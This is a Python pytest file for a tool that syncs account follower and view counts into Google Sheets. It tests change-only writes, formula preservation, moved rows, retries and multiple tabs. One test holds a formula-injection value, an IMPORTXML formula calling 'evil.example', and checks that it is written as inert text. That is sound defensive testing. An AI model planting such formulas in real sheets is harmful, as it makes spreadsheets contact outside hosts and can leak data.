"""Merged values in the sheet."""

from __future__ import annotations

import time

import pytest

from tests.records.test_sheets import kinds
from tests.records.world import HEADER, GoogleWorld
from trueup import records
from trueup.testing.sheets import Cell

FRESH = '[records.parsed]\nkind = "csv"\npath = "fresh.csv"'
WRITE = 'write_back = "true"'


@pytest.fixture
def google(google: GoogleWorld) -> GoogleWorld:
    google.sheet(("https://x.com/a", 100, 5), ("https://x.com/b", "", 50), ("https://x.com/c", 7, 7))
    google.fresh(("x.com/a", 200, 1), ("x.com/b", 20, 60), ("x.com/c", 7, 1), sheets=WRITE)
    return google


def values(google: GoogleWorld) -> list[list[object]]:
    return [row[1:] for row in google.book["A"].values[1:]]


def test_only_cells_that_changed_are_written_and_later_runs_only_read(google: GoogleWorld):
    assert google.result()["status"] == "ok"
    assert values(google) == [[200, 5], [20, 60], [7, 7]]
    assert google.book.written == ["A!B2", "A!B3", "A!C3"]
    assert google.server.count("batchUpdate") == 1
    google.server.requests.clear()
    assert google.result()["changes"] == []
    assert google.result()["changed_count"] == 0
    assert google.server.count() == 4


def test_nothing_is_written_unless_the_settings_say_so(google: GoogleWorld):
    google.fresh(("x.com/a", 200, 1))
    google.sync()
    assert values(google) == [[100, 5], ["", 50], [7, 7]]
    google.fresh(("x.com/a", 200, 1), sheets=WRITE)
    google.sync(dry_run=True)
    assert google.book.written == []


def test_formulas_foreign_columns_and_what_cannot_be_read_stay(google: GoogleWorld):
    header = ("note", "followers", "profile_url", "views", "likes")
    google.sheet(
        ("mine", Cell(100, formula="=SUM(E1:E9)"), "x.com/a", 5, 1),
        (Cell("spilled"), Cell(1, spilled=True), "x.com/b", "soon", 2),
        ("mine", 7, Cell("x.com/c", formula='=HYPERLINK("https://x.com/c","x.com/c")'), 0, 3),
        header=header,
    )
    result = google.result()
    assert kinds(result) == [
        ("bad_cell", "D3", "x.com/b"),
        ("formula_kept", "B2", "x.com/a"),
        ("formula_kept", "B3", "x.com/b"),
    ]
    assert google.book.written == ["A!D4"]
    assert google.book["A"]["B2"].formula == "=SUM(E1:E9)"
    assert google.book["A"]["D4"].value == 1


def test_rows_that_moved_are_found_again(google: GoogleWorld):
    google.server.after("values.batchGet", lambda: google.book["A"].insert(2, ("https://x.com/new", 1, 1)))
    result = google.result()
    assert [(issue["kind"], issue["key"], issue["rows"]) for issue in result["issues"]] == [
        ("row_moved", "x.com/a", [2, 3]),
        ("row_moved", "x.com/b", [3, 4]),
    ]
    assert values(google) == [[1, 1], [200, 5], [20, 60], [7, 7]]


def test_rows_that_are_gone_are_not_written(google: GoogleWorld):
    google.server.after("values.batchGet", lambda: google.book["A"].delete(2))
    result = google.result()
    assert result["issues"][0] == {"kind": "row_moved", "key": "x.com/a", "rows": [2], "reason": "the row is gone"}
    assert values(google) == [[20, 60], [7, 7]]


def test_an_edit_in_between_is_left_for_the_next_run(google: GoogleWorld):
    google.server.after("values.batchGet", lambda: google.book["A"].__setitem__("B2", 500))
    result = google.result()
    assert kinds(result) == [("cell_edited", "B2", "x.com/a")]
    assert values(google)[0] == [500, 5]
    google.sync()
    assert google.accounts["x.com/a"] == (500, 5)


def test_columns_may_move_in_between(google: GoogleWorld):
    def swap() -> None:
        google.book["A"].replace([("views", "profile_url", "followers"), (5, "x.com/a", 100), (50, "x.com/b")])

    google.server.after("values.batchGet", swap)
    google.sync()
    assert google.book["A"].values[1:] == [[5, "x.com/a", 200], [60, "x.com/b", 20]]


def test_text_that_looks_like_a_formula_is_written_as_text(google: GoogleWorld):
    evil = '=IMPORTXML("https://evil.example", "//a")'
    header = ("profile_url", "followers", "name")
    google.sheet(("x.com/a", 1, "old"), header=header)
    google.write("fresh.csv", header, ("x.com/a", evil, evil))
    google.settings(
        sheets=WRITE,
        fields='followers = "max"\nname = { rule = "parsed", type = "text" }',
        parsed='[records.parsed]\nkind = "csv"\npath = "fresh.csv"',
    )
    google.sync()
    assert google.book["A"]["C2"] == Cell(evil)
    assert google.accounts_of("followers, name") == [(1, evil)]


def test_pins_and_rules_that_would_feed_on_themselves_stay_out_of_the_sheet(google: GoogleWorld):
    google.settings(
        sheets=WRITE,
        fields='followers = "sum"\nviews = "sheet"',
        parsed='[records.parsed]\nkind = "csv"\npath = "fresh.csv"',
    )
    for _ in range(2):
        google.sync()
        assert google.accounts["x.com/a"] == (300, 5)
    assert google.book.written == []
    google.fresh(("x.com/a", 200, 1), sheets=WRITE)
    records.pin("x.com/a", "followers", "9")
    google.sync()
    assert values(google)[0] == [100, 5]


def test_numbers_that_a_sheet_cannot_hold_exactly_stay_out_of_it(google: GoogleWorld):
    google.fresh(("x.com/a", 2**53 + 1, 1), ("x.com/c", 2**53, 1), sheets=WRITE)
    google.sync(force=True)
    assert values(google) == [[100, 5], ["", 50], [2**53, 7]]


@pytest.mark.parametrize(
    ("fault", "on", "code"),
    [
        (503, "batchUpdate", "sheets_unavailable"),
        ("drop", "batchUpdate", "sheets_unavailable"),
        ("truncated", "batchUpdate", "sheets_bad_answer"),
    ],
)
def test_a_write_that_fails_is_told_and_done_by_the_next_run(google: GoogleWorld, fault: int | str, on: str, code: str):
    google.server.fail(fault, on=on)
    done = google.sync()
    result = done.results[0].to_json()
    assert (done.exit_code, result["status"], result["success"]) == (1, "partial", True)
    assert result["error"]["code"] == code  # type: ignore[index]
    assert google.server.count(on) == 1
    assert google.accounts["x.com/a"] == (200, 5)
    google.server.heal()
    assert google.result()["status"] == "ok"
    assert values(google) == [[200, 5], [20, 60], [7, 7]]


def test_a_sheet_that_may_only_be_read_is_told(google: GoogleWorld):
    google.book.editable = False
    result = google.result()
    assert (result["status"], result["error"]["code"]) == ("partial", "sheets_forbidden")
    assert "make it an editor there" in result["error"]["message"]
    assert google.accounts["x.com/a"] == (200, 5)


def test_each_project_writes_into_its_own_tab(google: GoogleWorld):
    google.book.tabs["It's B"] = google.server.add("other", {"It's B": [HEADER, ("x.com/b", 1, 1)]})["It's B"]
    google.settings(projects=("A", "It's B"), sheets=WRITE, parsed='[records.parsed]\nkind = "csv"\npath = "fresh.csv"')
    google.sync()
    assert google.book["It's B"].values[1] == ["x.com/b", 20, 60]
    assert "'It''s B'!B2" in google.book.written


def test_what_was_written_is_no_news_from_the_sheet(google: GoogleWorld):
    google.sheet(("https://x.com/a", 100, 0))
    found = []
    for hour, number in enumerate([110, 120, 130, 130, 140]):
        google.fresh(("x.com/a", number, 0))
        google.settings(
            sheets=WRITE,
            fields='followers = "latest"\nviews = "max"',
            parsed='[records.parsed]\nkind = "csv"\npath = "fresh.csv"',
        )
        google.sync(f"2026-10-01T{hour:02}:00:00Z")
        found.append(google.accounts["x.com/a"][0])
    assert found == [100, 120, 130, 130, 140]
    google.book["A"]["B2"] = 90
    google.sync("2026-10-01T10:00:00Z")
    assert google.accounts["x.com/a"][0] == 90


def test_who_lowers_a_number_that_was_written_is_told_that_it_counts_for_nothing(google: GoogleWorld):
    google.sync()
    google.book["A"]["B2"] = 150
    assert kinds(google.result()) == [("suppressed_decrease", None, "x.com/a")]
    assert values(google)[0] == [200, 5]


@pytest.mark.parametrize("fault", [503, "hang"])
def test_google_that_goes_down_before_anything_is_written_is_waited_for_once(google: GoogleWorld, fault: int | str):
    names = ("A", "B", "C", "D")
    for name in names[1:]:
        google.book.tabs[name] = google.server.add("other", {name: [HEADER, (f"x.com/{name}", 1, 1)]})[name]
    google.write("fresh.csv", HEADER, ("x.com/a", 200, 1), *((f"x.com/{name}", 9, 9) for name in names[1:]))
    google.settings(projects=names, sheets=f'{WRITE}\ndeadline = "2s"\ntimeout = "1s"', parsed=FRESH)
    google.server.after("values.batchGet", lambda: google.server.fail(fault))
    began = time.monotonic()
    done = google.sync()
    assert time.monotonic() - began < 9  # a deadline for each of them would be 10
    google.server.heal()
    assert [result.status for result in done.results] == ["partial"] * 4
    assert {(result.error or {})["code"] for result in done.results} == {"sheets_unavailable"}
    assert google.sync().status == "ok"
    assert [google.book[name].values[1][1] for name in names] == [200, 9, 9, 9]


def test_what_reading_waited_does_not_count_when_something_is_written(google: GoogleWorld):
    def once(on: str) -> None:
        google.server.fail(503, on=on, times=1, retry_after=2)

    google.settings(sheets=f'{WRITE}\ndeadline = "4s"', parsed=FRESH)
    once("spreadsheets.get")
    google.server.after("values.batchGet", lambda: once("spreadsheets.get"))
    assert google.result()["status"] == "ok"
    assert values(google)[0] == [200, 5]
